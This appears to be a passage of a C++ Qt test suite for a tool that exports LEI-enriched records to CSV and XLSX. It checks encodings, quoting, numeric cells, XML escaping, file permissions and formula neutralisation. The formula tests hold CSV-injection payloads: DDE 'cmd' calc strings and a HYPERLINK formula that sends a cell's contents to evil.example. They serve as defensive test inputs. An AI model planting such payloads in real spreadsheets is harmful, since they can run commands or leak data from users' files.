#include "testfiles.h"
#include "costrules.h"
#include "csvfile.h"
#include "enrichmentjob.h"
#include "exporter.h"
#include "fakegleif.h"
#include "xlsxreader.h"

#include <QDir>
#include <QFile>
#include <QRegularExpression>
#include <QFileInfo>
#include <QJsonArray>
#include <QScopeGuard>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QStringEncoder>
#include <QTemporaryDir>
#include <QTest>
#include <QXmlStreamReader>

#include <algorithm>
#include <atomic>
#include <clocale>
#include <sys/stat.h>
#include <unistd.h>

// What the exporters write, read back byte by byte (CSV) or entry by entry (XLSX).
class ExporterTest final : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void csvKeepsTheDialect_data();
    void csvKeepsTheDialect();
    void shortRowsArePaddedAndQuotingApplied();
    void beforeEnrichmentEverythingIsPending();
    void failedExportLeavesTheOldFile();
    void unwritableFolder();
    void xlsxHasNumbersFrozenHeaderAndFailures();
    void xlsxRefusesTooManyRows();
    void chosenRowsInTheirOrder_data();
    void chosenRowsInTheirOrder();
    void xlsxNumbersOnlyInNumericColumns_data();
    void xlsxNumbersOnlyInNumericColumns();
    void xlsxNumbersInTheCLocale();
    void xlsxCellTextIsXmlSafe_data();
    void xlsxCellTextIsXmlSafe();
    void checkXlsxFindsDamage_data();
    void checkXlsxFindsDamage();
    void exportsKeepModeAndLinks_data();
    void exportsKeepModeAndLinks();
    void formulaRule_data();
    void formulaRule();
    void gleifFormulasNeutralisedInCsvOnly();
    void inputFormulasNeutralisedOnRequest();
    void windows1252FallsBackToUtf8();
    void longRowsKeepTheNewColumnsUnderTheirHeadings_data();
    void longRowsKeepTheNewColumnsUnderTheirHeadings();
    void reEnrichingReplacesThePreviousColumns_data();
    void reEnrichingReplacesThePreviousColumns();
    void inputChangedDuringExportWritesNothing_data();
    void inputChangedDuringExportWritesNothing();
    void csvBlocksGiveTheSameBytes_data();
    void csvBlocksGiveTheSameBytes();
    void cancelledExportWritesNothing_data();
    void cancelledExportWritesNothing();
    void xlsxWidthsCostFormatAndDates();

private:
    // Makes the fake answer `legalName` for `lei` until the returned guard goes.
    auto legalNameFor(const QString &lei, const QString &legalName)
    {
        const QJsonObject original = m_fake.record(lei);
        QJsonObject record = original, attributes = record[u"attributes"].toObject(),
                    entity = attributes[u"entity"].toObject(), name = entity[u"legalName"].toObject();
        name[u"name"] = legalName;
        entity[u"legalName"] = name;
        attributes[u"entity"] = entity;
        record[u"attributes"] = attributes;
        m_fake.addRecord(record);
        return qScopeGuard([this, original] { m_fake.addRecord(original); });
    }
    QString write(const QByteArray &bytes, const QString &name) { return writeTestFile(m_dir.path(), name, bytes); }
    std::shared_ptr<const EnrichmentResults> enrich(const std::shared_ptr<CsvFile> &file);
    static QByteArray read(const QString &path) { return readTestFile(path); }
    QTemporaryDir m_dir;
    FakeGleif m_fake;
};

void ExporterTest::initTestCase()
{
    QStandardPaths::setTestModeEnabled(true);
    QVERIFY(m_dir.isValid());
    QVERIFY(m_fake.listen());
}

std::shared_ptr<const EnrichmentResults> ExporterTest::enrich(const std::shared_ptr<CsvFile> &file)
{
    EnrichmentSettings s;
    s.gleif.baseUrl = m_fake.baseUrl();
    s.useCache = false;
    EnrichmentJob job;
    QSignalSpy finished(&job, &EnrichmentJob::finished);
    QString error;
    if (!job.start(file, file->findColumn(), CostRules::defaults(), s, &error) || !finished.wait(60000))
        return {};
    return job.results();
}

void ExporterTest::csvKeepsTheDialect_data()
{
    QTest::addColumn<QByteArray>("input");
    QTest::addColumn<QByteArray>("expected");
    const QByteArray tail = "legalName;bic;country;transaction_costs;enrichment_status";
    QTest::newRow("semicolon CRLF BOM")
        << QByteArray("\xEF\xBB\xBFnotional;rate;lei\r\n763000;0.0070956;XKZZ2JZF41MRHTR1V493\r\n")
        << QByteArray("\xEF\xBB\xBFnotional;rate;lei;" + tail + "\r\n763000;0.0070956;XKZZ2JZF41MRHTR1V493;"
                      "CITIGROUP GLOBAL MARKETS LIMITED;SBILGB2LXXX;GB;-757586.0572;ok\r\n");
    QTest::newRow("CR only, no final newline")
        << QByteArray("notional,rate,lei\r1,2,bad")
        << QByteArray("notional,rate,lei,legalName,bic,country,transaction_costs,enrichment_status\r1,2,bad,,,,,invalid_lei\r");
    QTest::newRow("Windows-1252 stays Windows-1252")
        << QByteArray("caf\xe9,notional,rate,lei\n\xe9,1,1,BFXS5XCH7N0Y05NIXW11\n")
        << QByteArray("caf\xe9,notional,rate,lei,legalName,bic,country,transaction_costs,enrichment_status\n"
                      "\xe9,1,1,BFXS5XCH7N0Y05NIXW11,ABN AMRO Bank N.V.,ABNANL2AXXX;BETHDEF1XXX;GSLANL21XXX;KBWFNL21XXX;VSBVNL21XXX;ZEELNL21XXX,NL,0.0,ok\n");
    QStringEncoder utf16(QStringConverter::Utf16LE, QStringConverter::Flag::WriteBom);
    QStringEncoder utf16Out(QStringConverter::Utf16LE, QStringConverter::Flag::WriteBom);
    QTest::newRow("UTF-16LE stays UTF-16LE")
        << QByteArray(utf16.encode(QStringLiteral("n\u00e4me\tnotional\trate\tlei\nM\u00fcller\t1\t1\tnope\n")))
        << QByteArray(utf16Out.encode(QStringLiteral("n\u00e4me\tnotional\trate\tlei\tlegalName\tbic\tcountry\ttransaction_costs\tenrichment_status\n"
                                                     "M\u00fcller\t1\t1\tnope\t\t\t\t\tinvalid_lei\n")));
}

void ExporterTest::csvKeepsTheDialect()
{
    QFETCH(QByteArray, input);
    QFETCH(QByteArray, expected);
    QString error;
    auto file = CsvFile::load(write(input, QStringLiteral("dialect.csv")), {}, &error);
    QVERIFY2(file, qPrintable(error));
    auto results = enrich(file);
    QVERIFY(results);
    const QString out = m_dir.filePath(QStringLiteral("dialect.out.csv"));
    QVERIFY2(Exporter::writeCsv(*file, results.get(), out, &error), qPrintable(error));
    QCOMPARE(read(out), expected);
}

void ExporterTest::shortRowsArePaddedAndQuotingApplied()
{
    // GLEIF names with commas and quotes are quoted; a short input row keeps its columns aligned.
    FakeGleif::Options o;
    m_fake.setOptions(o);
    QJsonObject record = m_fake.record(QStringLiteral("XKZZ2JZF41MRHTR1V493"));
    QString error;
    auto file = CsvFile::load(write("id,notional,rate,lei,extra\n1,763000,0.0070956,XKZZ2JZF41MRHTR1V493\n\"a,b\",1,1,XKZZ2JZF41MRHTR1V493,x\n",
                                    QStringLiteral("short.csv")), {}, &error);
    QVERIFY2(file, qPrintable(error));
    auto results = enrich(file);
    QVERIFY(results);
    const QString out = m_dir.filePath(QStringLiteral("short.out.csv"));
    QVERIFY2(Exporter::writeCsv(*file, results.get(), out, &error), qPrintable(error));
    const QList<QByteArray> lines = read(out).split('\n');
    QCOMPARE(lines[1], QByteArray("1,763000,0.0070956,XKZZ2JZF41MRHTR1V493,,CITIGROUP GLOBAL MARKETS LIMITED,SBILGB2LXXX,GB,-757586.0572,ok"));
    QCOMPARE(lines[2], QByteArray("\"a,b\",1,1,XKZZ2JZF41MRHTR1V493,x,CITIGROUP GLOBAL MARKETS LIMITED,SBILGB2LXXX,GB,0.0,ok"));
    // Re-reading the export gives the same cells.
    auto back = CsvFile::load(out, {}, &error);
    QVERIFY2(back, qPrintable(error));
    QCOMPARE(back->fileColumnCount(), 10);
    QCOMPARE(back->columnCount(), 5); // read again, the added columns are a previous run's
    QCOMPARE(back->problemCount(), 0);
    QCOMPARE(back->cell(1, 0), QStringLiteral("a,b"));
}

void ExporterTest::beforeEnrichmentEverythingIsPending()
{
    QString error;
    auto file = CsvFile::load(write("lei\nXKZZ2JZF41MRHTR1V493\n", QStringLiteral("pending.csv")), {}, &error);
    const QString out = m_dir.filePath(QStringLiteral("pending.out.csv"));
    QVERIFY2(Exporter::write(*file, nullptr, out, &error), qPrintable(error));
    QCOMPARE(read(out), QByteArray("lei,legalName,bic,country,transaction_costs,enrichment_status\nXKZZ2JZF41MRHTR1V493,,,,,pending\n"));
}

void ExporterTest::failedExportLeavesTheOldFile()
{
    QByteArray big("lei\n");
    for (int i = 0; i < 200000; ++i)
        big += "XKZZ2JZF41MRHTR1V493\n";
    QString error;
    auto file = CsvFile::load(write(big, QStringLiteral("big.csv")), {}, &error);
    QVERIFY(file);
    for (const QString &name : {QStringLiteral("old.csv"), QStringLiteral("old.xlsx")}) {
        const QString out = write("precious", name);
        std::atomic_bool cancel{false};
        Exporter::Progress progress;
        progress.cancel = &cancel;
        progress.progress = [&](qint64, qint64) { cancel = true; }; // fail half way
        QVERIFY(!Exporter::write(*file, nullptr, out, &error, progress));
        QVERIFY2(error.startsWith(out), qPrintable(error));
        QCOMPARE(read(out), QByteArray("precious"));
        // No temporary file is left behind either.
        QCOMPARE(QDir(m_dir.path()).entryList({QStringLiteral("*") + name + QStringLiteral("*")}, QDir::Files | QDir::Hidden),
                 QStringList{name});
    }
}

void ExporterTest::unwritableFolder()
{
    QString error;
    auto file = CsvFile::load(write("lei\nx\n", QStringLiteral("w.csv")), {}, &error);
    for (const char *name : {"/proc/lei-enricher-test/out.csv", "/proc/lei-enricher-test/out.xlsx"}) {
        const QString out = QString::fromLatin1(name);
        QVERIFY(!Exporter::write(*file, nullptr, out, &error));
        QVERIFY2(error.startsWith(out + QStringLiteral(": ")) || error.contains(QStringLiteral("/proc/lei-enricher-test")), qPrintable(error));
    }
}

void ExporterTest::xlsxHasNumbersFrozenHeaderAndFailures()
{
    QString error;
    auto file = CsvFile::load(write("id,notional,rate,lei\n007,763000,0.0070956,XKZZ2JZF41MRHTR1V493\n8,1.957E7,0,BFXS5XCH7N0Y05NIXW11\n9,1,1,bad\n",
                                    QStringLiteral("x.csv")), {}, &error);
    QVERIFY2(file, qPrintable(error));
    auto results = enrich(file);
    QVERIFY(results);
    const QString out = m_dir.filePath(QStringLiteral("x.xlsx"));
    QVERIFY2(Exporter::writeXlsx(*file, results.get(), out, &error), qPrintable(error));
    QVERIFY(QFileInfo(out).permissions() & QFile::ReadOther);
    const auto zip = readZip(out, &error);
    QVERIFY2(!zip.isEmpty(), qPrintable(error));
    const QByteArray sheet = zip.value(QStringLiteral("xl/worksheets/sheet1.xml"));
    const QByteArray failures = zip.value(QStringLiteral("xl/worksheets/sheet2.xml"));
    const QByteArray workbook = zip.value(QStringLiteral("xl/workbook.xml"));
    QVERIFY(workbook.contains("name=\"Enriched\"") && workbook.contains("name=\"Failures\""));
    QVERIFY(sheet.contains("ySplit=\"1\"")); // frozen header
    QVERIFY(sheet.contains("<v>763000</v>"));            // a number, not text
    QVERIFY(sheet.contains("<v>19570000</v>"));          // 1.957E7 as a number
    QVERIFY(sheet.contains("<v>-757586.0572</v>") || sheet.contains("<v>-757586.05720000004</v>"));
    QVERIFY(sheet.contains("<t>007</t>"));               // a code keeps its zeros
    QVERIFY(sheet.contains("<t>XKZZ2JZF41MRHTR1V493</t>"));
    QVERIFY(sheet.contains("<t>CITIGROUP GLOBAL MARKETS LIMITED</t>"));
    QVERIFY(zip.value(QStringLiteral("xl/styles.xml")).contains("<b/>")); // bold header
    QVERIFY(failures.contains("<t>bad_number</t>"));
    QVERIFY(failures.contains("<t>rate is 0: division by zero</t>"));
    QVERIFY(failures.contains("<t>invalid_lei</t>"));
    QVERIFY(!failures.contains("<t>ok</t>"));
}

void ExporterTest::chosenRowsInTheirOrder_data()
{
    QTest::addColumn<QString>("suffix");
    QTest::newRow("csv") << QStringLiteral("csv");
    QTest::newRow("xlsx") << QStringLiteral("xlsx");
}

void ExporterTest::chosenRowsInTheirOrder()
{
    // "Rows as shown": only the rows given, in their order (the window's filter and sort).
    QFETCH(QString, suffix);
    QString error;
    auto file = CsvFile::load(write("id,notional,rate,lei\nfirst,1,1,XKZZ2JZF41MRHTR1V493\nsecond,1,0,BFXS5XCH7N0Y05NIXW11\n"
                                    "third,1,1,bad\n",
                                    QStringLiteral("chosen.csv")), {}, &error);
    QVERIFY2(file, qPrintable(error));
    auto results = enrich(file);
    QVERIFY(results);
    const std::vector<qint32> rows{2, 0};
    Exporter::Options options;
    options.rows = &rows;
    const QString out = m_dir.filePath(QStringLiteral("chosen.") + suffix);
    QVERIFY2(Exporter::write(*file, results.get(), out, &error, {}, options), qPrintable(error));
    if (suffix == u"csv") {
        const QList<QByteArray> lines = read(out).trimmed().split('\n');
        QCOMPARE(lines.size(), 3);
        QVERIFY(lines.at(1).startsWith("third,"));
        QVERIFY(lines.at(2).startsWith("first,"));
        return;
    }
    const auto zip = readZip(out, &error);
    const QByteArray sheet = zip.value(QStringLiteral("xl/worksheets/sheet1.xml"));
    const QByteArray failures = zip.value(QStringLiteral("xl/worksheets/sheet2.xml"));
    QVERIFY(sheet.indexOf("<t>third</t>") >= 0 && sheet.indexOf("<t>third</t>") < sheet.indexOf("<t>first</t>"));
    QVERIFY(!sheet.contains("<t>second</t>"));
    QVERIFY(failures.contains("<t>invalid_lei</t>"));  // row 3, shown
    QVERIFY(!failures.contains("<t>bad_number</t>")); // row 2, not shown
}

void ExporterTest::xlsxNumbersOnlyInNumericColumns_data()
{
    QTest::addColumn<QByteArray>("csv");
    QTest::addColumn<QList<QByteArray>>("numbers"); // <v>...</v> the sheet must hold
    QTest::addColumn<QList<QByteArray>>("texts");   // <t>...</t> it must hold instead
    QTest::newRow("an identifier that looks like a number stays text")
        << QByteArray("isin,notional,rate,lei\n1E5,763000,0.0070956,XKZZ2JZF41MRHTR1V493\nEZ9724VTXK48,1,1,XKZZ2JZF41MRHTR1V493\n")
        << QList<QByteArray>{"763000", "0.0070956"} << QList<QByteArray>{"1E5", "EZ9724VTXK48"};
    QTest::newRow("a numeric column: numbers")
        << QByteArray("ref,notional,rate,lei\n1E5,763000,0.0070956,XKZZ2JZF41MRHTR1V493\n2,1,1,XKZZ2JZF41MRHTR1V493\n")
        << QList<QByteArray>{"100000", "2", "763000"} << QList<QByteArray>{};
    QTest::newRow("decimal commas in a ;-separated file")
        << QByteArray("id;notional;rate;lei\nA;763000;0,0070956;XKZZ2JZF41MRHTR1V493\nB;1.234,5;0,5;XKZZ2JZF41MRHTR1V493\n")
        << QList<QByteArray>{"0.0070956", "0.5"} << QList<QByteArray>{"763000", "1.234,5"}; // grouped thousands: text
}

void ExporterTest::xlsxNumbersOnlyInNumericColumns()
{
    // An input cell becomes a number only when its whole column is numeric (in the file's
    // decimal convention); an ISIN-like "1E5" among ISINs is text, never 100000.
    QFETCH(QByteArray, csv);
    QFETCH(QList<QByteArray>, numbers);
    QFETCH(QList<QByteArray>, texts);
    QString error;
    auto file = CsvFile::load(write(csv, QStringLiteral("numeric.csv")), {}, &error);
    QVERIFY2(file, qPrintable(error));
    auto results = enrich(file);
    QVERIFY(results);
    const QString out = m_dir.filePath(QStringLiteral("numeric.xlsx"));
    QVERIFY2(Exporter::writeXlsx(*file, results.get(), out, &error), qPrintable(error));
    const QByteArray sheet = readZip(out, &error).value(QStringLiteral("xl/worksheets/sheet1.xml"));
    QVERIFY2(!sheet.isEmpty(), qPrintable(error));
    for (const QByteArray &n : numbers)
        QVERIFY2(sheet.contains(QByteArray("<v>" + n + "</v>")), n.constData());
    for (const QByteArray &t : texts) {
        QVERIFY2(sheet.contains(QByteArray("<t>" + t + "</t>")), t.constData());
        QVERIFY2(!sheet.contains(QByteArray("<v>" + t + "</v>")), t.constData());
    }
    if (csv.startsWith("isin"))
        QVERIFY(!sheet.contains("<v>100000</v>"));
}

void ExporterTest::xlsxRefusesTooManyRows()
{
    QByteArray big;
    big.reserve(4 * 1100000);
    big += "lei\n";
    for (qint64 i = 0; i < Exporter::kXlsxMaxDataRows + 1; ++i)
        big += "x\n";
    QString error;
    auto file = CsvFile::load(write(big, QStringLiteral("huge.csv")), {}, &error);
    QVERIFY(file);
    QCOMPARE(file->rowCount(), Exporter::kXlsxMaxDataRows + 1);
    const QString out = m_dir.filePath(QStringLiteral("huge.xlsx"));
    QVERIFY(!Exporter::write(*file, nullptr, out, &error));
    QVERIFY2(error.contains(QStringLiteral("do not fit in an XLSX sheet")), qPrintable(error));
    QVERIFY(!QFileInfo::exists(out));
    QCOMPARE(QDir(m_dir.path()).entryList({QStringLiteral(".huge*")}, QDir::Files | QDir::Hidden).size(), 0);
}

namespace {

// The sheet's XML must parse: an ill-formed sheet is what Excel calls a damaged file.
QString xmlError(const QByteArray &xml)
{
    QXmlStreamReader reader(xml);
    while (!reader.atEnd())
        reader.readNext();
    return reader.hasError() ? reader.errorString() : QString();
}

} // namespace

void ExporterTest::xlsxNumbersInTheCLocale()
{
    // The application object sets the locale from the environment; under de_DE, printf writes
    // a decimal comma. packaging/install-deps.sh installs de_DE.UTF-8: no skipping.
    const QByteArray previous = std::setlocale(LC_ALL, nullptr);
    const auto restore = qScopeGuard([previous] { std::setlocale(LC_ALL, previous.constData()); });
    QVERIFY2(std::setlocale(LC_ALL, "de_DE.UTF-8"), "the de_DE.UTF-8 locale is missing: run packaging/install-deps.sh");
    QCOMPARE(std::localeconv()->decimal_point, ",");

    QString error;
    auto file = CsvFile::load(write("amount,notional,rate,lei\n0.5,763000,0.0070956,XKZZ2JZF41MRHTR1V493\n",
                                    QStringLiteral("de.csv")), {}, &error);
    QVERIFY2(file, qPrintable(error));
    auto results = enrich(file);
    QVERIFY(results);
    const QString out = m_dir.filePath(QStringLiteral("de.xlsx"));
    QVERIFY2(Exporter::writeXlsx(*file, results.get(), out, &error), qPrintable(error));
    const auto zip = readZip(out, &error);
    const QByteArray sheet = zip.value(QStringLiteral("xl/worksheets/sheet1.xml"));
    QVERIFY2(sheet.contains("<v>0.5</v>"), sheet.constData());
    QVERIFY(sheet.contains("<v>0.0070956</v>"));
    QVERIFY(sheet.contains("<v>-757586.0572") || sheet.contains("<v>-757586.05720000004</v>"));
    QVERIFY2(sheet.contains("<pageMargins left=\"0.7\""), sheet.constData()); // libxlsxwriter's own doubles too
    QVERIFY(!sheet.contains(",5</v>"));
    // The CSV cost text is the shortest round trip, whatever the locale.
    const QString csv = m_dir.filePath(QStringLiteral("de.out.csv"));
    QVERIFY2(Exporter::writeCsv(*file, results.get(), csv, &error), qPrintable(error));
    QVERIFY(read(csv).contains(",-757586.0572,ok\n"));
    // The export left the locale of the program as it was.
    QCOMPARE(std::localeconv()->decimal_point, ",");
}

void ExporterTest::xlsxCellTextIsXmlSafe_data()
{
    QTest::addColumn<QByteArray>("cell");     // UTF-8, as in the input file
    QTest::addColumn<QByteArray>("expected"); // the <t> element's text in sheet1.xml
    QTest::newRow("U+FFFE") << QByteArray("a\xEF\xBF\xBE" "b") << QByteArray("a\xEF\xBF\xBD" "b");
    QTest::newRow("U+FFFF") << QByteArray("a\xEF\xBF\xBF" "b") << QByteArray("a\xEF\xBF\xBD" "b");
    QTest::newRow("a literal _x0041_") << QByteArray("_x0041_") << QByteArray("_x005F_x0041_");
    QTest::newRow("lower-case hex") << QByteArray("id_x00e9_z") << QByteArray("id_x005F_x00e9_z");
    QTest::newRow("not an escape") << QByteArray("_x12_ _xZZZZ_") << QByteArray("_x12_ _xZZZZ_");
    QTest::newRow("control character (libxlsxwriter)") << QByteArray("a\x01" "b") << QByteArray("a_x0001_b");
    QTest::newRow("U+FFFD and e-acute kept") << QByteArray("\xEF\xBF\xBD\xC3\xA9") << QByteArray("\xEF\xBF\xBD\xC3\xA9");
}

void ExporterTest::xlsxCellTextIsXmlSafe()
{
    QFETCH(QByteArray, cell);
    QFETCH(QByteArray, expected);
    QString error;
    // The same text as a header name goes through the converted (not byte) path.
    auto file = CsvFile::load(write("lei," + cell + "\nbad," + cell + "\n", QStringLiteral("xml.csv")), {}, &error);
    QVERIFY2(file, qPrintable(error));
    const QString out = m_dir.filePath(QStringLiteral("xml.xlsx"));
    QVERIFY2(Exporter::writeXlsx(*file, nullptr, out, &error), qPrintable(error));
    const auto zip = readZip(out, &error);
    const QByteArray sheet = zip.value(QStringLiteral("xl/worksheets/sheet1.xml"));
    QVERIFY2(xmlError(sheet).isEmpty(), qPrintable(xmlError(sheet)));
    QCOMPARE(sheet.count(QByteArray("<t>" + expected + "</t>")), 2);
}

void ExporterTest::checkXlsxFindsDamage_data()
{
    QTest::addColumn<QByteArray>("zip");
    QTest::addColumn<QString>("problem"); // empty: whole
    const QByteArray types = "<?xml version=\"1.0\"?>\n<Types xmlns=\"x\"><Default/></Types>";
    const QByteArray book = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<workbook><sheets/></workbook>";
    const QByteArray sheet = "<?xml version=\"1.0\"?>\n<worksheet><sheetData><row r=\"1\"/></sheetData></worksheet>\n";
    auto zip = [&](const QByteArray &s) {
        return makeZip({{QStringLiteral("[Content_Types].xml"), types}, {QStringLiteral("xl/workbook.xml"), book},
                        {QStringLiteral("xl/worksheets/sheet1.xml"), s}});
    };
    QTest::newRow("whole") << zip(sheet) << QString();
    QTest::newRow("sheet cut before it was zipped") << zip(sheet.left(sheet.indexOf("</sheetData>")))
                                                    << QStringLiteral("xl/worksheets/sheet1.xml is cut short");
    QTest::newRow("part not XML") << zip("sheet data") << QStringLiteral("xl/worksheets/sheet1.xml is cut short");
    QTest::newRow("file cut") << zip(sheet).chopped(30) << QStringLiteral("no ZIP central directory");
    QTest::newRow("sheet missing") << makeZip({{QStringLiteral("[Content_Types].xml"), types}, {QStringLiteral("xl/workbook.xml"), book}})
                                   << QStringLiteral("xl/worksheets/sheet1.xml is missing");
    QTest::newRow("empty") << QByteArray() << QStringLiteral("not a ZIP file");
}

void ExporterTest::checkXlsxFindsDamage()
{
    QFETCH(QByteArray, zip);
    QFETCH(QString, problem);
    QString why;
    QCOMPARE(Exporter::checkXlsx(write(zip, QStringLiteral("check.xlsx")), &why), problem.isEmpty());
    QVERIFY2(why.startsWith(problem), qPrintable(why));
}

void ExporterTest::exportsKeepModeAndLinks_data()
{
    QTest::addColumn<QString>("suffix");
    QTest::addColumn<QString>("target"); // "new", "existing", "symlink"
    for (const char *suffix : {"csv", "xlsx"})
        for (const char *target : {"new", "existing", "symlink"})
            QTest::addRow("%s, %s file", suffix, target) << QString::fromLatin1(suffix) << QString::fromLatin1(target);
}

void ExporterTest::exportsKeepModeAndLinks()
{
    QFETCH(QString, suffix);
    QFETCH(QString, target);
    QString error;
    auto file = CsvFile::load(write("lei\nbad\n", QStringLiteral("mode.csv")), {}, &error);
    QVERIFY2(file, qPrintable(error));
    const mode_t previousMask = ::umask(027);
    const auto restore = qScopeGuard([previousMask] { ::umask(previousMask); });
    auto modeOf = [](const QString &p) {
        struct stat st{};
        return ::lstat(QFile::encodeName(p).constData(), &st) == 0 ? int(st.st_mode & 07777) : -1;
    };

    QTemporaryDir dir;
    const QString out = dir.filePath(QStringLiteral("out.") + suffix);
    const QString real = dir.filePath(QStringLiteral("real.") + suffix);
    int expectedMode = 0640; // 0666 less the umask
    if (target == u"existing") {
        writeTestFile(dir.path(), QStringLiteral("out.") + suffix, "old");
        QVERIFY(::chmod(QFile::encodeName(out).constData(), 0600) == 0);
        expectedMode = 0600;
    } else if (target == u"symlink") {
        writeTestFile(dir.path(), QStringLiteral("real.") + suffix, "old");
        QVERIFY(::chmod(QFile::encodeName(real).constData(), 0604) == 0);
        QVERIFY(QFile::link(real, out));
        expectedMode = 0604;
    }
    QVERIFY2(Exporter::write(*file, nullptr, out, &error), qPrintable(error));
    if (target == u"symlink") {
        QVERIFY2(QFileInfo(out).isSymLink(), "the link was replaced by a file");
        QCOMPARE(QFileInfo(out).symLinkTarget(), real);
        QVERIFY(read(real) != "old");
        QCOMPARE(modeOf(real), expectedMode);
    } else {
        QCOMPARE(modeOf(out), expectedMode);
    }
    QVERIFY(read(out).size() > 40);
    // Only the export itself is left in the folder.
    QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden | QDir::System).size(), target == u"symlink" ? 2 : 1);
}

void ExporterTest::formulaRule_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("formula");
    QTest::newRow("=") << QStringLiteral("=HYPERLINK(\"http://x/?\"&A1)") << true;
    QTest::newRow("+") << QStringLiteral("+cmd|' /C calc'!A0") << true;
    QTest::newRow("-") << QStringLiteral("-2+3+cmd|' /C calc'!A0") << true;
    QTest::newRow("@") << QStringLiteral("@SUM(A1:A2)") << true;
    QTest::newRow("tab") << QStringLiteral("\t=1") << true;
    QTest::newRow("CR") << QStringLiteral("\r=1") << true;
    QTest::newRow("lone minus") << QStringLiteral("-") << true;
    QTest::newRow("minus then exponent only") << QStringLiteral("-1e") << true;
    QTest::newRow("negative number") << QStringLiteral("-757586.0572") << false;
    QTest::newRow("decimal comma") << QStringLiteral("-1.234,5") << false;
    QTest::newRow("plus exponent") << QStringLiteral("+1.5E-7") << false;
    QTest::newRow("plain text") << QStringLiteral("ABN AMRO Bank N.V.") << false;
    QTest::newRow("= later") << QStringLiteral("a=b") << false;
    QTest::newRow("empty") << QString() << false;
}

void ExporterTest::formulaRule()
{
    QFETCH(QString, text);
    QFETCH(bool, formula);
    QCOMPARE(Exporter::isFormulaLike(text), formula);
    QCOMPARE(Exporter::isFormulaLike(QByteArrayView(text.toUtf8())), formula);
    QCOMPARE(Exporter::neutraliseFormula(text), formula ? QLatin1Char('\'') + text : text);
}

void ExporterTest::gleifFormulasNeutralisedInCsvOnly()
{
    const QString evil = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A2,\"Citi\")");
    const auto restore = legalNameFor(QStringLiteral("XKZZ2JZF41MRHTR1V493"), evil);
    QString error;
    auto file = CsvFile::load(write("notional,rate,lei,note\n763000,0.0070956,XKZZ2JZF41MRHTR1V493,=1+2\n",
                                    QStringLiteral("evil.csv")), {}, &error);
    QVERIFY2(file, qPrintable(error));
    auto results = enrich(file);
    QVERIFY(results);
    const QString csv = m_dir.filePath(QStringLiteral("evil.out.csv"));
    QVERIFY2(Exporter::writeCsv(*file, results.get(), csv, &error), qPrintable(error));
    // GLEIF's text gets its ', the cost (negative) does not, the input's own cells are untouched.
    QCOMPARE(read(csv).split('\n').value(1),
             QByteArray("763000,0.0070956,XKZZ2JZF41MRHTR1V493,=1+2,"
                        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Citi\"\")\",SBILGB2LXXX,GB,-757586.0572,ok"));
    // XLSX writes text as text: an inline string, no formula, nothing added.
    const QString xlsx = m_dir.filePath(QStringLiteral("evil.xlsx"));
    QVERIFY2(Exporter::writeXlsx(*file, results.get(), xlsx, &error), qPrintable(error));
    const QByteArray sheet = readZip(xlsx, &error).value(QStringLiteral("xl/worksheets/sheet1.xml"));
    QVERIFY2(sheet.contains("t=\"inlineStr\"><is><t>=HYPERLINK(\"http://evil.example/?\"&amp;A2,\"Citi\")</t>"), sheet.constData());
    QVERIFY(sheet.contains("<t>=1+2</t>"));
    QVERIFY(!sheet.contains("<f>"));
}

void ExporterTest::inputFormulasNeutralisedOnRequest()
{
    const QByteArray input = "lei,a;b,note\n"
                             "bad,=1+2,-5\n"
                             "bad,\"@x,y\",+1 555 0100\n"
                             "bad,\"\"\"=quoted\",-2+3\n";
    QString error;
    auto file = CsvFile::load(write(input, QStringLiteral("own.csv")), {}, &error);
    QVERIFY2(file, qPrintable(error));
    const QString out = m_dir.filePath(QStringLiteral("own.out.csv"));
    // Off (the default): the input's bytes go out as they came.
    QVERIFY2(Exporter::writeCsv(*file, nullptr, out, &error), qPrintable(error));
    QVERIFY(read(out).startsWith("lei,a;b,note,legalName"));
    QCOMPARE(read(out).split('\n').mid(1, 3),
             (QList<QByteArray>{"bad,=1+2,-5,,,,,pending", "bad,\"@x,y\",+1 555 0100,,,,,pending",
                                "bad,\"\"\"=quoted\",-2+3,,,,,pending"}));
    Exporter::Options options;
    options.neutraliseInputFormulas = true;
    QVERIFY2(Exporter::writeCsv(*file, nullptr, out, &error, {}, options), qPrintable(error));
    QCOMPARE(read(out).split('\n').mid(1, 3),
             (QList<QByteArray>{"bad,'=1+2,-5,,,,,pending", "bad,\"'@x,y\",'+1 555 0100,,,,,pending",
                                "bad,\"\"\"=quoted\",'-2+3,,,,,pending"}));
}

void ExporterTest::windows1252FallsBackToUtf8()
{
    const auto restore = legalNameFor(QStringLiteral("BFXS5XCH7N0Y05NIXW11"), QStringLiteral("Sp\u00f3\u0142ka \u20ac"));
    QString error;
    auto file = CsvFile::load(write("caf\xe9,notional,rate,lei\n\xe9\x80,1,1,BFXS5XCH7N0Y05NIXW11\n", QStringLiteral("pl.csv")), {}, &error);
    QVERIFY2(file, qPrintable(error));
    QCOMPARE(file->dialect().encoding, CsvEncoding::Windows1252);
    auto results = enrich(file);
    QVERIFY(results);
    const QString out = m_dir.filePath(QStringLiteral("pl.out.csv"));
    QStringList notices;
    Exporter::Options options;
    options.notices = &notices;
    QVERIFY2(Exporter::writeCsv(*file, results.get(), out, &error, {}, options), qPrintable(error));
    // UTF-8 with a BOM, the input's own Windows-1252 bytes transcoded too.
    QCOMPARE(read(out), QByteArray("\xEF\xBB\xBF" "caf\xC3\xA9,notional,rate,lei,legalName,bic,country,transaction_costs,enrichment_status\n"
                                   "\xC3\xA9\xE2\x82\xAC,1,1,BFXS5XCH7N0Y05NIXW11,Sp\xC3\xB3\xC5\x82ka \xE2\x82\xAC,"
                                   "ABNANL2AXXX;BETHDEF1XXX;GSLANL21XXX;KBWFNL21XXX;VSBVNL21XXX;ZEELNL21XXX,NL,0.0,ok\n"));
    QCOMPARE(notices.size(), 1);
    QVERIFY2(notices[0].startsWith(out + QStringLiteral(": ")) && notices[0].contains(QStringLiteral("UTF-8"))
                 && notices[0].contains(QStringLiteral("\u0142")), qPrintable(notices[0]));
    // The file reads back as the same text.
    auto back = CsvFile::load(out, {}, &error);
    QVERIFY2(back, qPrintable(error));
    QCOMPARE(back->cell(0, 0), QStringLiteral("\u00e9\u20ac"));
